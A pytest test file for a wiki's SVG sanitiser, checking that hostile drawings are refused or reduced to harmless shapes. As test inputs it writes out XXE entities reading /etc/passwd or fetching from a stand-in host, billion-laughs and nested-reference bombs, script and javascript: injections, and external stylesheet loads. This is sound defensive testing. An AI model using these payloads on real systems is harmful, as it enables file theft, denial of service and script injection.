"""Hostile drawings: SVG that runs, grows, reaches out; it is refused with its reason, or only draws."""

from __future__ import annotations

import base64
from xml.etree import ElementTree

import pytest

from tests import album
from tests.hostile.test_pictures import GOOD, only_a_picture, reason
from tests.yardstick import SECOND, made_within
from wiki.actions import vectors
from wiki.actions.darkroom import Darkroom
from wiki.models.attachment import Refusal


@pytest.fixture(scope="module")
def room():
    with Darkroom() as room:
        yield room


REFUSED_DRAWINGS = {
    "laughs by the billion": (
        album.drawing(
            "<text>&c;</text>",
            before='<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
        ),
        Refusal.ACTIVE,
    ),
    "file from the disk": (
        album.drawing("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        Refusal.ACTIVE,
    ),
    "entity that marks up": (
        album.drawing("&x;", before='<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'),
        Refusal.ACTIVE,
    ),
    "parameter entity": (
        album.drawing("", before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://loot.example/"> %x;]>'),
        Refusal.ACTIVE,
    ),
    "entities without end": (
        album.drawing(
            "", before="<!DOCTYPE svg [" + "".join(f'<!ENTITY e{n} "x">' for n in range(200)) + "]>"
        ),
        Refusal.ACTIVE,
    ),
    "uses of uses": (
        album.drawing(
            "<g id='a0'><rect/></g>"
            + "".join(f"<g id='a{n}'>" + f"<use xlink:href='#a{n - 1}'/>" * 10 + "</g>" for n in range(1, 9))
            + "<use href='#a8'/>"
        ),
        Refusal.ACTIVE,
    ),
    "use of itself": (album.drawing("<g id='a'><use href='#a'/></g>"), Refusal.ACTIVE),
    "patterns of patterns": (
        album.drawing(
            "<pattern id='a0'><rect/></pattern>"
            + "".join(
                f"<pattern id='a{n}'>" + f"<rect fill='url(#a{n - 1})'/>" * 10 + "</pattern>"
                for n in range(1, 9)
            )
            + "<rect style='fill:url( \"#a8\" )'/>"
        ),
        Refusal.ACTIVE,
    ),
    "depth": (album.drawing("<g>" * 5_000 + "</g>" * 5_000), Refusal.ACTIVE),
    "depth of what is left out": (album.drawing("<x>" * 5_000 + "</x>" * 5_000), Refusal.ACTIVE),
    "elements": (album.drawing("<g/>" * 100_001), Refusal.ACTIVE),
    "weight": (album.drawing(f"<!--{'x' * 5_000_000}-->"), Refusal.TOO_HEAVY),
    "not closed": (b"<svg xmlns='http://www.w3.org/2000/svg'><g>", Refusal.DAMAGED),
    "page that begins as a drawing": (b"<svg><img src=x onerror=alert(1)>", Refusal.DAMAGED),
    "unknown letters": (b"<?xml version='1.0' encoding='none-such'?><svg/>", Refusal.DAMAGED),
    "other root": (b"<!DOCTYPE svg><html xmlns='http://www.w3.org/1999/xhtml'/>", Refusal.NOT_A_PICTURE),
    "other namespace": (b"<svg xmlns='http://www.w3.org/1999/xhtml'/>", Refusal.NOT_A_PICTURE),
    "part as the root": (b"<!DOCTYPE svg><rect xmlns='http://www.w3.org/2000/svg'/>", Refusal.NOT_A_PICTURE),
    "pictures without end": (
        album.drawing(f"<image href='data:image/png;base64,{base64.b64encode(GOOD).decode()}'/>" * 21),
        Refusal.TOO_HEAVY,
    ),
}


@pytest.mark.parametrize("name", REFUSED_DRAWINGS)
def test_drawing_is_refused_with_a_reason(room, name):
    content, why = REFUSED_DRAWINGS[name]
    assert reason(room, content) == why


def redrawn(inside, **around):
    return vectors.redraw(album.drawing(inside, **around)).variants[0].content.decode()


BARE = redrawn("<rect/>")
NEUTRALISED = {
    "script": "<script>alert(1)</script><rect/>",
    "script of another name": "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script><rect/>",
    "script from elsewhere": "<script href='https://loot.example/x.js'/><rect/>",
    "page inside": "<body xmlns='http://www.w3.org/1999/xhtml'><script>1</script></body><rect/>",
    "page from elsewhere": "<iframe xmlns='http://www.w3.org/1999/xhtml' src='https://loot.example'/><rect/>",
    "gesture": "<rect onload='alert(1)' ONCLICK='alert(1)'/>",
    "use from elsewhere": "<rect xlink:href='https://loot.example/a.svg#x'/>",
    "address that runs": "<rect href=' javascript:alert(1)'/>",
    "data that runs": "<rect href='data:text/html,&lt;script>alert(1)&lt;/script>'/>",
    "animation": "<rect/><animate attributeName='href' values='javascript:alert(1)'/><set attributeName='onload' to='x'/>",
    "tool's notes": "<metadata><x:creator xmlns:x='urn:x'>Ada</x:creator></metadata><rect x:path='/home/ada' xmlns:x='urn:x'/>",
    "instruction": "<?xml-stylesheet href='https://loot.example/a.css'?><rect/>",
    "comment": "<!-- <script>alert(1)</script> --><rect/>",
    "base": "<rect xml:base='https://loot.example/'/>",
    "another drawing as style": "<link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='x'/><rect/>",
}


@pytest.mark.parametrize("name", NEUTRALISED)
def test_drawing_loses_what_does_more_than_draw(name):
    assert redrawn(NEUTRALISED[name]) == BARE


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("fill:url(https://loot.example/a)", "fill:none"),
        ("fill:url('//loot.example/a')", "fill:none"),
        ('fill: URL( "data:image/svg+xml,x" )', "fill: none"),
        ("fill:url(#a)", "fill:url(#a)"),
        ("fill:u\\72l(//loot.example)", ""),
        ("fill:url('#a')", "fill:url('#a')"),
        ("fill:url(' https://loot.example/a", "fill:none"),
        ("background:image-set('//loot.example/a' 1x)", ""),
        ("fill:red", "fill:red"),
    ],
)
def test_style_of_a_drawing_reaches_nothing_outside(written, left):
    shape = ElementTree.fromstring(
        redrawn(f"<g id='a'/><rect style='{written.replace(chr(39), '&apos;')}'/>")
    )[1]
    assert shape.get("style") == left


def test_sheet_of_a_drawing_reaches_nothing_outside():
    sheet = "@import 'https://loot.example/a.css'; @font-face{src:url(https://loot.example/f)} .a{fill:#f00}"
    assert redrawn(f"<style>{sheet}</style>").count("loot") == 0
    assert redrawn(f"<style><![CDATA[{sheet}]]></style>").count(".a{fill:#f00}") == 1


WORDS = "<foreignObject><div xmlns='http://www.w3.org/1999/xhtml' {}>words</div></foreignObject>"


@pytest.mark.parametrize(
    "inside",
    [
        "onclick='alert(1)'",
        "background='https://loot.example/'",
        "src='x'",
        "href='#a'",
        "contenteditable='true'",
    ],
)
def test_words_of_a_scheme_stay_and_do_nothing(inside):
    kept = '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">words</div></foreignObject>'
    assert redrawn(WORDS.format(inside)) == redrawn("@").replace("</svg>", f"{kept}</svg>")


@pytest.mark.parametrize(
    "tag", ["script", "iframe", "img", "input", "form", "a", "object", "video", "style", "link", "base"]
)
def test_words_of_a_scheme_are_only_words(tag):
    inside = f"<{tag} xmlns='http://www.w3.org/1999/xhtml' src='x' href='x'>alert(1)</{tag}>"
    assert redrawn(f"<foreignObject>{inside}</foreignObject>") == redrawn("<foreignObject/>")


def test_drawing_keeps_the_short_names_of_old_tools():
    names = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY n "urn:x">]>'
    assert redrawn("<rect xmlns:x='&n;'/>", before=names) == BARE


def test_picture_inside_a_drawing_is_developed_too():
    carried = base64.b64encode(album.from_the_field()).decode()
    shown = redrawn(f"<image width='4' height='2' xlink:href='data:image/jpeg;base64,{carried}'/>")
    left = base64.b64decode(shown.partition("base64,")[2].partition('"')[0])
    assert only_a_picture(left)
    assert b"SECRET" not in left


def test_picture_inside_a_drawing_that_cannot_be_shown_is_left_out():
    bomb = base64.b64encode(album.claiming(60_000, 60_000, rows=1)).decode()
    assert redrawn(f"<image href='data:image/png;base64,{bomb}'/>") == redrawn("<image/>")
    assert redrawn("<image href='data:image/svg+xml;base64,PHN2Zy8+'/>") == redrawn("<image/>")
    assert redrawn("<image href='data:image/png;base64,%%%'/>") == redrawn("<image/>")


@pytest.mark.parametrize(
    "css",
    [
        "url('" + " " * 500_000,
        "url(" * 200_000,
        "@import" * 200_000,
        "@ " * 500_000,
        "image" * 200_000 + "-set",
    ],
)
def test_costly_style_is_read_in_time(css):
    drawing = f"<style>{css}</style><rect style='{css.replace(chr(39), chr(34))}'/>"
    made_within(2 * SECOND, lambda: redrawn(drawing))
